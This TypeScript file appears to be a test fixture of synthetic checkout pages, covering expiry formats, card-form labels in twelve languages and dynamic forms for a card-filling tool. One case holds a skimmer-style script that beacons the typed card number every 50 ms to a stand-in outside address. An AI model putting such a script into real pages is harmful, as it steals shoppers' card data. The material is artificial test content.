import type { Kind } from './checkout-kinds.ts'
import { CODE, form, JSON_POST, months, NUMBER, onSubmit, options, script } from './page-parts.ts'

const ENGLISH = 'January February March April May June July August September October November December'.split(' ')
const YEARS = options(['2029', '2030', '2031'].map((year) => [year, year] as const))
const lists = (monthOptions: readonly (readonly [string, string])[], years = YEARS) =>
  form(
    `${NUMBER}<select autocomplete="cc-exp-month" name="exp_month">${options(monthOptions)}</select><select autocomplete="cc-exp-year" name="exp_year">${years}</select>${CODE}`,
  )
const two = (month: number) => String(month).padStart(2, '0')
/** The shop is given `8` for September by these pages, as they mean it. */
const fromZero = (text: (month: number) => string) =>
  lists(months.map((month) => [String(month - 1), text(month)] as const))

/** Pages that name the fields of the expiry, and of the rest, in their own ways. */
export const expiryShapes: readonly Kind[] = [
  { name: 'months from 0 to 11, as “January”', html: fromZero((month) => ENGLISH[month - 1] ?? ''), ends: 'paid' },
  {
    name: 'months from 0 to 11, as “01 - January”',
    html: fromZero((month) => `${two(month)} - ${ENGLISH[month - 1]}`),
    ends: 'paid',
  },
  {
    name: 'months from 0 to 11, whose texts count from 0, too',
    html: fromZero((month) => String(month - 1)),
    ends: 'paid',
  },
  {
    name: 'months whose texts and values disagree',
    html: lists(months.map((m) => [String((m % 12) + 1), two(m)] as const)),
    ends: /texts and values say the same/,
  },
  {
    name: 'months as “Jan”, with such values',
    html: lists(ENGLISH.map((name) => [name.slice(0, 3).toUpperCase(), name.slice(0, 3)] as const)),
    ends: 'paid',
  },
  {
    name: 'months as Polish words',
    html: lists(
      'styczeń luty marzec kwiecień maj czerwiec lipiec sierpień wrzesień październik listopad grudzień'
        .split(' ')
        .map((name, at) => [`m${at}`, name] as const),
    ),
    ends: 'paid',
  },
  {
    name: 'months in Japanese and Korean numbers',
    html: lists(months.map((m) => [String(m), `${m}月`] as const)),
    ends: 'paid',
  },
  {
    name: 'months in Arabic words',
    html: lists(
      'يناير فبراير مارس أبريل مايو يونيو يوليو أغسطس سبتمبر أكتوبر نوفمبر ديسمبر'
        .split(' ')
        .map((name, at) => [String(at + 1), name] as const),
    ),
    ends: 'paid',
  },
  {
    name: 'years that count from this one',
    html: lists(
      months.map((m) => [String(m), two(m)] as const),
      options(['2026', '2027', '2028', '2029', '2030'].map((year, at) => [String(at), year] as const)),
    ),
    ends: 'paid',
  },
  {
    name: 'an expiry with the year first (YY/MM)',
    html: form(`${NUMBER}<label>有効期限 <input name="expiry" placeholder="YY/MM"></label>${CODE}`),
    ends: 'paid',
  },
  {
    name: 'two boxes “MM” and “YY” under a legend',
    html: form(
      `${NUMBER}<fieldset><legend>Expires</legend><input name="ex1" placeholder="MM" maxlength="2"><input name="ex2" placeholder="YY" maxlength="2"></fieldset>${CODE}`,
    ),
    ends: 'paid',
  },
  {
    name: 'one list of months and years',
    html: form(
      `${NUMBER}<select autocomplete="cc-exp" name="expiry">${options(['08/2030', '09/2030', '10/2030'].map((each) => [each.replace('/', '-'), each] as const))}</select>${CODE}`,
    ),
    ends: 'paid',
  },
  {
    name: 'an expiry that the page formats as “MM / YYYY”',
    html: form(`${NUMBER}<input autocomplete="cc-exp" name="expiry" placeholder="MM / YYYY">${CODE}`),
    ends: 'paid',
  },
  {
    name: 'a CVC that the browser is not to keep (one-time-code)',
    html: form(
      `${NUMBER}<input autocomplete="cc-exp" name="expiry"><label>CVV <input name="cvv" autocomplete="one-time-code"></label>`,
    ),
    ends: 'paid',
  },
  {
    name: 'a start date and an issue number beside the rest',
    html: form(
      `${NUMBER}<label>Valid from <input name="start"></label><label>Issue number <input name="issue"></label><input autocomplete="cc-exp" name="expiry">${CODE}`,
    ),
    ends: 'paid',
  },
]

interface Labels {
  readonly number: string
  readonly expiry: string
  readonly code: string
  readonly pay: string
}

const inLanguage = (language: string, { number, expiry, code, pay }: Labels): Kind => ({
  name: `labels in ${language}`,
  html:
    `<form lang="${language}"><label>${number}<input id="a"></label><label>${expiry}<input id="b"></label><label>${code}<input id="c"></label><button data-wrong type="button">…</button><button>${pay}</button></form>` +
    onSubmit(
      `const [cardNumber, exp, cvc] = [a.value, b.value, c.value]; fetch('/pay', { method: 'POST', body: JSON.stringify({ cardNumber, exp, cvc }) }).then(() => { document.title = 'Thanks' })`,
    ),
  ends: 'paid',
})

/** Checkouts whose labels alone say what they are, in each language of the words. */
export const languageShapes: readonly Kind[] = [
  inLanguage('German', {
    number: 'Kartennummer',
    expiry: 'Gültig bis (MM/JJ)',
    code: 'Prüfziffer',
    pay: 'Zahlungspflichtig bestellen',
  }),
  inLanguage('French', {
    number: 'Numéro de carte',
    expiry: 'Date d’expiration (MM/AA)',
    code: 'Cryptogramme visuel',
    pay: 'Payer 12,00 €',
  }),
  inLanguage('Spanish', {
    number: 'Número de la tarjeta',
    expiry: 'Fecha de caducidad (MM/AA)',
    code: 'Código de seguridad',
    pay: 'Pagar ahora',
  }),
  inLanguage('Italian', {
    number: 'Numero della carta',
    expiry: 'Data di scadenza (MM/AA)',
    code: 'Codice di sicurezza',
    pay: 'Paga ora',
  }),
  inLanguage('Portuguese', {
    number: 'Número do cartão',
    expiry: 'Validade (MM/AA)',
    code: 'Código de segurança',
    pay: 'Finalizar compra',
  }),
  inLanguage('Dutch', {
    number: 'Kaartnummer',
    expiry: 'Vervaldatum (MM/JJ)',
    code: 'Beveiligingscode',
    pay: 'Nu betalen',
  }),
  inLanguage('Polish', {
    number: 'Numer karty',
    expiry: 'Data ważności (MM/RR)',
    code: 'Kod bezpieczeństwa',
    pay: 'Zapłać 12,00 zł',
  }),
  inLanguage('Swedish', {
    number: 'Kortnummer',
    expiry: 'Giltigt till (MM/ÅÅ)',
    code: 'Säkerhetskod',
    pay: 'Slutför köp',
  }),
  inLanguage('Japanese', {
    number: 'カード番号',
    expiry: '有効期限（月/年）',
    code: 'セキュリティコード',
    pay: '注文を確定する',
  }),
  inLanguage('Chinese', { number: '银行卡号', expiry: '有效期', code: '安全码', pay: '立即支付' }),
  inLanguage('Korean', {
    number: '카드 번호',
    expiry: '유효기간 (MM/YY)',
    code: '보안 코드',
    pay: '12,000원 결제하기',
  }),
  inLanguage('Arabic', { number: 'رقم البطاقة', expiry: 'تاريخ انتهاء الصلاحية', code: 'رمز الأمان', pay: 'ادفع الآن' }),
]

/** Checkouts that do more with their fields. */
export const livelyShapes: readonly Kind[] = [
  {
    name: 'a format while typing, a check of Luhn and a button that comes late',
    html:
      form(`${NUMBER}<input autocomplete="cc-exp" name="expiry">${CODE}`).replace('<button', '<button disabled') +
      script(
        `const n = document.querySelector('input'), b = document.querySelector('button'); const luhn = (d) => [...d].reverse().reduce((s, c, i) => { const v = c * (i % 2 + 1); return s + (v > 9 ? v - 9 : v) }, 0) % 10 === 0; document.addEventListener('input', () => { n.value = n.value.replace(/\\D/g, '').replace(/(.{4})(?=.)/g, '$1 '); setTimeout(() => { b.disabled = !(n.value.length === 19 && luhn(n.value.replaceAll(' ', ''))) }, 300) })`,
      ),
    ends: 'paid',
  },
  {
    name: 'fields that are made anew when somebody types',
    html:
      `<div id="root"></div>` +
      script(
        `const state = { number: '', expiry: '', code: '' }; const draw = () => { root.innerHTML = '<form>' + ['number', 'expiry', 'code'].map((k) => '<input autocomplete="cc-' + { number: 'number', expiry: 'exp', code: 'csc' }[k] + '" name="' + k + '" value="' + state[k] + '">').join('') + '<button>Pay</button></form>'; document.querySelector('form').onsubmit = (e) => { e.preventDefault(); fetch('/pay', { method: 'POST', body: JSON.stringify(state) }).then(() => { document.title = 'Thanks' }) } }; draw(); root.addEventListener('change', ({ target }) => { state[target.name] = target.value; if (state.number && state.expiry && state.code) draw() })`,
      ),
    ends: 'paid',
  },
  {
    name: 'a number of the type number',
    html: form(
      `<input type="number" autocomplete="cc-number" name="number"><input autocomplete="cc-exp" name="expiry">${CODE}`,
    ),
    ends: 'paid',
  },
  {
    name: 'a watcher of the page, and beacons for all that is typed',
    html:
      form(`${NUMBER}<input autocomplete="cc-exp" name="expiry">${CODE}`) +
      script(
        `new MutationObserver(() => {}).observe(document, { subtree: true, attributes: true }); setInterval(() => { const v = document.querySelector('input').value; if (v) navigator.sendBeacon('OTHER/elsewhere', v) }, 50)`,
      ),
    ends: 'paid',
  },
  {
    name: 'a card in the variables of GraphQL',
    html:
      form(`${NUMBER}<input autocomplete="cc-exp" name="expiry">${CODE}`) +
      onSubmit(
        `const v = Object.fromEntries(new FormData(event.target)); fetch('/graphql', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: 'mutation Pay($card: Card!) { pay(card: $card) { id } }', variables: { card: { number: v.number, expiry: v.expiry, cvc: v.code } } }) }).then(() => { document.title = 'Thanks' })`,
      ),
    ends: 'paid',
  },
  {
    name: 'a form with the card as JSON in one of its fields',
    html:
      form(
        `<label>Card number <input id="n"></label><label>Expiry <input id="e"></label><label>CVC <input id="c"></label><input type="hidden" name="payload">`,
      ) +
      script(
        `document.querySelector('form').addEventListener('submit', () => { document.querySelector('[name=payload]').value = JSON.stringify({ card: { number: n.value, expiry: e.value, cvc: c.value } }) })`,
      ),
    ends: 'paid',
  },
  {
    name: 'a postal code and a name that are filled in already',
    html: form(
      `<label>Name on card <input name="holder" value="Ada" required></label>${NUMBER}<input autocomplete="cc-exp" name="expiry">${CODE}<label>ZIP <input name="zip" value="12045" required></label>`,
    ),
    ends: 'paid',
  },
  {
    name: 'a page that asks before it is left',
    html:
      form(`${NUMBER}<input autocomplete="cc-exp" name="expiry">${CODE}`) +
      script(`addEventListener('beforeunload', (e) => { e.preventDefault() })`) +
      onSubmit(JSON_POST),
    ends: 'paid',
  },
]
